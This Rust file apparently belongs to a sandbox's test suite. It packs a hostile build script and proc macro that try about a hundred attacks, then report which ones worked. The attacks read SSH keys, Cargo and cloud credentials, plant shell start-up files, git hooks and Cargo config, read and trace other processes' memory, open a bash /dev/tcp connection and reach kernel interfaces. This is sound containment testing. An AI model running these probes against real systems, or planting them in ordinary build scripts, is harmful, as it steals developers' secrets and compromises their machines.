//! What a hostile build script and a hostile proc macro try, one function each. Not part of this repository's build: the
//! attack test packs it into the hostile packages, beside a `places.rs` that says where the bait lies.
//!
//! Each function says whether the attack worked. Uncontained, nearly all of them do.

use std::ffi::{CString, c_int, c_long, c_void};
use std::fs;
use std::io::{Read, Write};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::{UnixListener, UnixStream};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
    fn socket(family: c_int, kind: c_int, protocol: c_int) -> c_int;
    fn kill(pid: c_int, signal: c_int) -> c_int;
    fn getppid() -> c_int;
}

/// An attack: its name, and whether it worked.
pub type Attack = (&'static str, fn() -> bool);

fn at(base: &str, rest: &str) -> PathBuf {
    Path::new(base).join(rest)
}
fn reads(path: PathBuf) -> bool {
    fs::read(path).is_ok_and(|bytes| !bytes.is_empty())
}
fn writes(path: PathBuf) -> bool {
    if let Some(parent) = path.parent() {
        let _ = fs::create_dir_all(parent);
    }
    let comment: &[u8] = if path.extension().is_some_and(|e| e == "rs") { b"//planted\n" } else { b"#planted\n" };
    fs::OpenOptions::new().append(true).create(true).open(path).and_then(|mut f| f.write_all(comment)).is_ok()
}
fn c(path: &Path) -> CString {
    CString::new(path.to_str().unwrap_or_default()).unwrap_or_default()
}
fn call(number: c_long, a: [usize; 5]) -> c_long {
    unsafe { syscall(number, a[0], a[1], a[2], a[3], a[4]) }
}
/// A folder of the attacker's own that outlives the process.
fn own() -> PathBuf {
    std::env::var_os("OUT_DIR").map_or_else(std::env::temp_dir, PathBuf::from)
}
fn first(dir: &Path, ends: &str) -> Option<PathBuf> {
    let entries = fs::read_dir(dir).ok()?;
    let mut all: Vec<_> = entries.flatten().map(|e| e.path()).collect();
    all.sort();
    all.into_iter().find(|p| p.to_string_lossy().ends_with(ends))
}
/// Folders of the target folder's `build`, of other packages.
fn other_units() -> Vec<PathBuf> {
    let entries = fs::read_dir(at(TARGET, "debug/build")).into_iter().flatten().flatten();
    let named: Vec<_> = entries.map(|e| e.path()).filter(|p| p.to_string_lossy().contains("bystander")).collect();
    if named.is_empty() { vec![at(TARGET, "debug/build").join(BYSTANDER)] } else { named }
}
fn connects(path: &str) -> bool {
    UnixStream::connect(path).is_ok()
}

#[cfg(target_arch = "x86_64")]
mod nr {
    pub const PTRACE: i64 = 101;
    pub const PROCESS_VM_READV: i64 = 310;
    pub const ADD_KEY: i64 = 248;
    pub const BPF: i64 = 321;
    pub const PERF_EVENT_OPEN: i64 = 298;
    pub const USERFAULTFD: i64 = 323;
    pub const UNSHARE: i64 = 272;
    pub const CLONE: i64 = 56;
    pub const NAME_TO_HANDLE_AT: i64 = 303;
    pub const SHMAT: i64 = 30;
    pub const PERSONALITY: i64 = 135;
    pub const SETPRIORITY: i64 = 141;
    pub const PRLIMIT: i64 = 302;
    pub const KCMP: i64 = 312;
    pub const SETXATTR: i64 = 188;
    pub const UTIMENSAT: i64 = 280;
    pub const INOTIFY_INIT: i64 = 294;
    pub const INOTIFY_ADD: i64 = 254;
    pub const SYSLOG: i64 = 103;
    pub const PROCESS_MADVISE: i64 = 440;
    pub const EXIT: i64 = 60;
    pub const SETNS: i64 = 308;
    pub const SHMGET: i64 = 29;
}
#[cfg(target_arch = "aarch64")]
mod nr {
    pub const PTRACE: i64 = 117;
    pub const PROCESS_VM_READV: i64 = 270;
    pub const ADD_KEY: i64 = 217;
    pub const BPF: i64 = 280;
    pub const PERF_EVENT_OPEN: i64 = 241;
    pub const USERFAULTFD: i64 = 282;
    pub const UNSHARE: i64 = 97;
    pub const CLONE: i64 = 220;
    pub const NAME_TO_HANDLE_AT: i64 = 264;
    pub const SHMAT: i64 = 196;
    pub const PERSONALITY: i64 = 92;
    pub const SETPRIORITY: i64 = 140;
    pub const PRLIMIT: i64 = 261;
    pub const KCMP: i64 = 272;
    pub const SETXATTR: i64 = 5;
    pub const UTIMENSAT: i64 = 88;
    pub const INOTIFY_INIT: i64 = 26;
    pub const INOTIFY_ADD: i64 = 27;
    pub const SYSLOG: i64 = 116;
    pub const PROCESS_MADVISE: i64 = 440;
    pub const EXIT: i64 = 93;
    pub const SETNS: i64 = 268;
    pub const SHMGET: i64 = 194;
}
const IO_URING_SETUP: i64 = 425;
const PIDFD_OPEN: i64 = 434;
const PIDFD_GETFD: i64 = 438;
const OPEN_TREE: i64 = 428;
const FSOPEN: i64 = 430;
const CLONE3: i64 = 435;
const MEMFD_SECRET: i64 = 447;
const NEW_USER: usize = 0x1000_0000;
const EFAULT: i32 = 14;

/// Whether a call got as far as looking at its (bad) arguments.
fn reached(result: c_long) -> bool {
    let errno = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
    result >= 0 || errno == EFAULT || errno == 22
}
fn forks(flags: usize) -> bool {
    let pid = call(nr::CLONE, [flags | 17, 0, 0, 0, 0]);
    if pid == 0 {
        call(nr::EXIT, [0; 5]);
    }
    pid > 0
}

pub const ATTACKS: &[Attack] = &[
    ("reads an ssh key in the home", || reads(at(HOME, ".ssh/id_rsa"))),
    ("reads Cargo's registry token", || reads(at(CARGO_HOME, "credentials.toml"))),
    ("reads cloud credentials in the home", || reads(at(HOME, ".aws/credentials"))),
    ("reads .netrc", || reads(at(HOME, ".netrc"))),
    ("reads the shell's history", || reads(at(HOME, ".bash_history"))),
    ("lists the home", || fs::read_dir(HOME).is_ok_and(|d| d.flatten().any(|e| e.file_name() == ".ssh"))),
    ("sees whether a file in the home exists", || fs::metadata(at(HOME, ".ssh/id_rsa")).is_ok()),
    ("reads another project's source", || reads(at(OUTSIDE, "project/main.rs"))),
    ("reads the workspace's .env", || reads(at(WORKSPACE, ".env"))),
    ("reads the workspace's git configuration", || reads(at(WORKSPACE, ".git/config"))),
    ("reads a secret through a symbolic link of its own", || {
        let link = own().join(format!("link-{}", std::process::id()));
        symlink(at(HOME, ".ssh/id_rsa"), &link).is_ok() && reads(link)
    }),
    ("reads a secret through a hard link of its own", || {
        let link = own().join(format!("hard-{}", std::process::id()));
        fs::hard_link(at(HOME, ".ssh/id_rsa"), &link).is_ok() && reads(link)
    }),
    ("reads a secret through a program of the system", || {
        Command::new("cat").arg(at(HOME, ".ssh/id_rsa")).output().is_ok_and(|o| o.status.success())
    }),
    ("reads a secret through another process's folder", || reads(PathBuf::from(format!("/proc/{VICTIM}/cwd/secret")))),
    ("reads a descriptor that the shell left open", || {
        let mut text = String::new();
        fs::File::open("/proc/self/fd/7").is_ok_and(|mut f| f.read_to_string(&mut text).is_ok()) && text.contains("inherited")
    }),
    ("watches the home for changes", || {
        let fd = call(nr::INOTIFY_INIT, [0; 5]);
        call(nr::INOTIFY_ADD, [fd as usize, c(Path::new(HOME)).as_ptr() as usize, 0xfff, 0, 0]) >= 0
    }),
    ("writes to the shell's start-up file", || writes(at(HOME, ".bashrc"))),
    ("plants a program in the home's bin", || writes(at(HOME, ".local/bin/cargo"))),
    ("plants an autostart entry", || writes(at(HOME, ".config/autostart/x.desktop"))),
    ("plants Cargo configuration for the user", || writes(at(CARGO_HOME, "config.toml"))),
    ("plants Cargo configuration in the workspace", || writes(at(WORKSPACE, ".cargo/config.toml"))),
    ("plants Cargo configuration above the workspace", || writes(at(OUTSIDE, ".cargo/config.toml"))),
    ("plants a git hook", || writes(at(WORKSPACE, ".git/hooks/post-checkout"))),
    ("plants a program in Cargo's bin", || writes(at(CARGO_HOME, "bin/cargo-planted"))),
    ("changes the user's own source", || writes(at(WORKSPACE, "src/main.rs"))),
    ("changes the lock file", || writes(at(WORKSPACE, "Cargo.lock"))),
    ("changes bulkhead.toml", || writes(at(WORKSPACE, "bulkhead.toml"))),
    ("changes bulkhead's own settings", || writes(at(WALLS, "walls.json"))),
    ("changes its own package's source", || {
        let dir = std::env::var_os("CARGO_MANIFEST_DIR").map(PathBuf::from).unwrap_or_default();
        writes(first(&at(CARGO_HOME, "registry/src"), "").map_or(dir, |r| r.join("hostile-build-0.1.0")).join("src/planted.rs"))
    }),
    ("changes another package's source", || {
        first(&at(CARGO_HOME, "registry/src"), "").is_some_and(|r| writes(r.join("bystander-0.1.0/src/lib.rs")))
    }),
    ("changes a package's archive", || fs::OpenOptions::new().write(true).open(ARCHIVE).is_ok()),
    ("plants a library beside the others", || writes(at(TARGET, "debug/deps/libplanted-0000000000000000.rlib"))),
    ("changes another package's library", || {
        let dir = at(TARGET, "debug/deps");
        let entries = fs::read_dir(&dir).into_iter().flatten().flatten();
        let mut libs: Vec<_> = entries.map(|e| e.path()).filter(|p| p.to_string_lossy().contains("libbystander")).collect();
        libs.sort();
        // Opened only: a changed one would break the build that tells us of it.
        libs.pop().is_some_and(|lib| fs::OpenOptions::new().write(true).open(lib).is_ok())
    }),
    ("writes into another package's OUT_DIR", || other_units().iter().any(|u| u.join("out").is_dir() && writes(u.join("out/planted")))),
    ("replaces another package's build script", || other_units().iter().any(|u| u.join("build-script-build").exists() && writes(u.join("build-script-build")))),
    ("changes what another build script told Cargo", || other_units().iter().any(|u| u.join("output").exists() && writes(u.join("output")))),
    ("changes Cargo's fingerprints", || writes(at(TARGET, "debug/.fingerprint/planted"))),
    ("plants a program where Cargo puts the user's", || writes(at(TARGET, "debug/planted"))),
    ("deletes a file", || fs::remove_file(at(OUTSIDE, "to-delete").join(WHO)).is_ok()),
    ("renames a file", || fs::rename(at(OUTSIDE, "to-rename").join(WHO), at(OUTSIDE, "renamed").join(WHO)).is_ok()),
    ("makes a folder", || fs::create_dir(at(OUTSIDE, "made").join(WHO)).is_ok()),
    ("truncates a file", || fs::OpenOptions::new().write(true).open(at(OUTSIDE, "to-truncate")).and_then(|f| f.set_len(0)).is_ok()),
    ("changes a file's mode", || fs::set_permissions(at(HOME, ".netrc"), fs::Permissions::from_mode(0o644)).is_ok()),
    ("changes a file's times", || call(nr::UTIMENSAT, [-100_isize as usize, c(&at(HOME, ".netrc")).as_ptr() as usize, 0, 0, 0]) == 0),
    ("sets an extended attribute", || {
        let value = b"x";
        call(nr::SETXATTR, [c(&at(HOME, ".netrc")).as_ptr() as usize, c"user.planted".as_ptr() as usize, value.as_ptr() as usize, 1, 0]) == 0
    }),
    ("makes a set-user-id program", || {
        let file = own().join(format!("setuid-{}", std::process::id()));
        fs::write(&file, "x").is_ok()
            && fs::set_permissions(&file, fs::Permissions::from_mode(0o4755)).is_ok()
            && fs::metadata(&file).is_ok_and(|m| m.permissions().mode() & 0o4000 != 0)
    }),
    ("leaves a file in the common temporary folder", || {
        writes(at(TEMP, &format!("planted-{WHO}"))) && fs::metadata(at(TEMP, "is-outside")).is_ok()
    }),
    ("leaves a file in shared memory", || {
        writes(PathBuf::from(format!("/dev/shm/bulkhead-attack-{VICTIM}"))) && fs::metadata(SHARED_MARK).is_ok()
    }),
    ("has a registry token in its environment", || std::env::var_os("CARGO_REGISTRY_TOKEN").is_some()),
    ("has cloud secrets in its environment", || std::env::var_os("AWS_SECRET_ACCESS_KEY").is_some()),
    ("has a forge's token in its environment", || std::env::var_os("GITHUB_TOKEN").is_some()),
    ("has the ssh agent in its environment", || std::env::var_os("SSH_AUTH_SOCK").is_some()),
    ("reads Cargo's environment", || {
        let own = unsafe { getppid() };
        let pids = [own, VICTIM];
        pids.iter().any(|pid| fs::read(format!("/proc/{pid}/environ")).is_ok_and(|e| contains(&e, b"CARGO_REGISTRY_TOKEN")))
    }),
    ("reads another process's environment", || reads(PathBuf::from(format!("/proc/{VICTIM}/environ")))),
    ("reads another process's arguments", || reads(PathBuf::from(format!("/proc/{VICTIM}/cmdline")))),
    ("reads another process's memory map", || reads(PathBuf::from(format!("/proc/{VICTIM}/maps")))),
    ("opens another process's memory", || fs::OpenOptions::new().write(true).open(format!("/proc/{VICTIM}/mem")).is_ok()),
    ("makes another process the first to die", || fs::write(format!("/proc/{VICTIM}/oom_score_adj"), "1000").is_ok()),
    ("connects to the network", || TcpStream::connect_timeout(&TCP.parse().expect("an address"), Duration::from_secs(2)).is_ok()),
    ("connects to the network through a program of the system", || {
        let target = TCP.replace(':', "/");
        Command::new("bash").args(["-c", &format!("exec 3<>/dev/tcp/{target}")]).output().is_ok_and(|o| o.status.success())
    }),
    ("listens on the network", || TcpListener::bind("127.0.0.1:0").is_ok()),
    ("sends datagrams", || UdpSocket::bind("127.0.0.1:0").is_ok_and(|s| s.send_to(b"x", UDP).is_ok())),
    ("makes an IPv6 socket", || unsafe { socket(10, 1, 0) } >= 0),
    ("connects to a local socket", || connects(SOCKET)),
    ("makes a local socket", || UnixListener::bind(at(OUTSIDE, "made").join(format!("{WHO}-socket"))).is_ok()),
    ("connects to an abstract socket", || {
        use std::os::linux::net::SocketAddrExt;
        let address = std::os::unix::net::SocketAddr::from_abstract_name(ABSTRACT);
        address.and_then(|a| UnixStream::connect_addr(&a)).is_ok()
    }),
    ("makes a netlink socket", || unsafe { socket(16, 3, 0) } >= 0),
    ("makes a socket to the host of the machine", || unsafe { socket(40, 1, 0) } >= 0),
    ("makes a kernel cryptography socket", || unsafe { socket(38, 5, 0) } >= 0),
    ("makes a raw packet socket", || unsafe { socket(17, 3, 0x300) } >= 0),
    ("signals another process", || unsafe { kill(VICTIM, 0) } == 0),
    ("signals Cargo", || {
        let parent = unsafe { getppid() };
        parent > 1 && unsafe { kill(parent, 0) } == 0
    }),
    ("traces another process", || {
        let seize = call(nr::PTRACE, [0x4206, VICTIM as usize, 0, 0, 0]) == 0;
        if seize {
            call(nr::PTRACE, [17, VICTIM as usize, 0, 0, 0]);
        }
        seize
    }),
    ("reads another process's memory", || {
        let mut buffer = [0_u8; 8];
        let local = [buffer.as_mut_ptr() as usize, 8];
        let remote = [START, 8_usize];
        call(nr::PROCESS_VM_READV, [VICTIM as usize, local.as_ptr() as usize, 1, remote.as_ptr() as usize, 1]) == 8
    }),
    ("takes a descriptor from another process", || {
        let fd = call(PIDFD_OPEN, [VICTIM as usize, 0, 0, 0, 0]);
        fd >= 0 && call(PIDFD_GETFD, [fd as usize, 0, 0, 0, 0]) >= 0
    }),
    ("compares another process's resources", || call(nr::KCMP, [VICTIM as usize, VICTIM as usize, 2, 0, 0]) >= 0),
    ("advises another process's memory", || {
        let fd = call(PIDFD_OPEN, [VICTIM as usize, 0, 0, 0, 0]);
        fd >= 0 && reached(call(nr::PROCESS_MADVISE, [fd as usize, 1, 1, 4, 0]))
    }),
    ("changes another process's limits", || {
        let limit = [64_u64, 64];
        call(nr::PRLIMIT, [VICTIM as usize, 7, limit.as_ptr() as usize, 0, 0]) == 0
    }),
    ("slows all of the user's processes", || call(nr::SETPRIORITY, [2, 0, 1, 0, 0]) == 0),
    ("makes a user namespace", || forks(NEW_USER)),
    ("makes a user namespace with unshare", || {
        Command::new("unshare").args(["-U", "true"]).output().is_ok_and(|o| o.status.success())
    }),
    ("makes a user namespace with clone3", || {
        let mut arguments = [0_u64; 11];
        arguments[0] = NEW_USER as u64;
        arguments[4] = 17;
        let pid = call(CLONE3, [arguments.as_ptr() as usize, 88, 0, 0, 0]);
        if pid == 0 {
            call(nr::EXIT, [0; 5]);
        }
        pid > 0
    }),
    ("enters another process's namespaces", || {
        let fd = call(PIDFD_OPEN, [VICTIM as usize, 0, 0, 0, 0]);
        fd >= 0 && reached(call(nr::SETNS, [fd as usize, 0x0400_0000, 0, 0, 0]))
    }),
    ("reaches io_uring", || reached(call(IO_URING_SETUP, [1, 0, 0, 0, 0]))),
    ("reaches bpf", || reached(call(nr::BPF, [0, 0, 0, 0, 0]))),
    ("reaches perf events", || reached(call(nr::PERF_EVENT_OPEN, [0, 0, usize::MAX, usize::MAX, 0]))),
    ("reaches userfaultfd", || call(nr::USERFAULTFD, [1, 0, 0, 0, 0]) >= 0),
    ("reaches keyrings", || call(nr::ADD_KEY, [c"user".as_ptr() as usize, c"bulkhead-attack".as_ptr() as usize, c"x".as_ptr() as usize, 1, -1_isize as usize]) >= 0),
    ("reaches secret memory", || call(MEMFD_SECRET, [0; 5]) >= 0),
    ("reaches mounts", || reached(call(OPEN_TREE, [-100_isize as usize, c"/".as_ptr() as usize, 0, 0, 0]))),
    ("reaches file system contexts", || reached(call(FSOPEN, [0, 0, 0, 0, 0]))),
    ("names files by handle", || {
        let mut handle = [0_u32; 40];
        handle[0] = 128;
        let mut mount = 0_i32;
        call(nr::NAME_TO_HANDLE_AT, [-100_isize as usize, c"/".as_ptr() as usize, handle.as_mut_ptr() as usize, (&raw mut mount) as usize, 0]) == 0
    }),
    ("reads the kernel's log", || {
        let mut buffer = [0_u8; 64];
        call(nr::SYSLOG, [3, buffer.as_mut_ptr() as usize, 64, 0, 0]) >= 0
    }),
    ("makes all readable memory executable", || call(nr::PERSONALITY, [0x0040_0000, 0, 0, 0, 0]) >= 0),
    ("attaches another process's shared memory", || {
        let id = call(nr::SHMGET, [SHARED_KEY, 1, 0, 0, 0]);
        id >= 0 && call(nr::SHMAT, [id as usize, 0, 0o10_000, 0, 0]) != -1
    }),
    #[cfg(target_arch = "x86_64")]
    ("reaches system calls of 32-bit programs", || {
        let result: i32;
        unsafe { std::arch::asm!("push rbx", "int 0x80", "pop rbx", inlateout("eax") 20_i32 => result, out("ecx") _, out("edx") _) };
        result > 0
    }),
    ("leaves a process running", || {
        Command::new("sh").args(["-c", &format!("setsid sh -c 'sleep {SLEEP}' >/dev/null 2>&1 &")]).status().is_ok_and(|s| s.success())
    }),
    ("plants a file among its own outputs", || {
        let line = fs::read("/proc/self/cmdline").unwrap_or_default();
        let mut words = line.split(|b| *b == 0).skip_while(|w| w != b"--out-dir");
        let dir = words.nth(1).map(|d| PathBuf::from(String::from_utf8_lossy(d).into_owned()));
        writes(dir.unwrap_or_else(|| at(TARGET, "debug/deps")).join("libplanted_output.rlib"))
    }),
];

fn contains(text: &[u8], what: &[u8]) -> bool {
    text.windows(what.len()).any(|w| w == what)
}

/// Tries everything; a line for each attack.
pub fn report() -> String {
    let mut out = String::new();
    for (name, attack) in ATTACKS {
        let worked = attack();
        out += &format!("{name}\t{}\n", if worked { "worked" } else { "stopped" });
    }
    out
}

#[allow(dead_code)]
type Unused = *mut c_void;
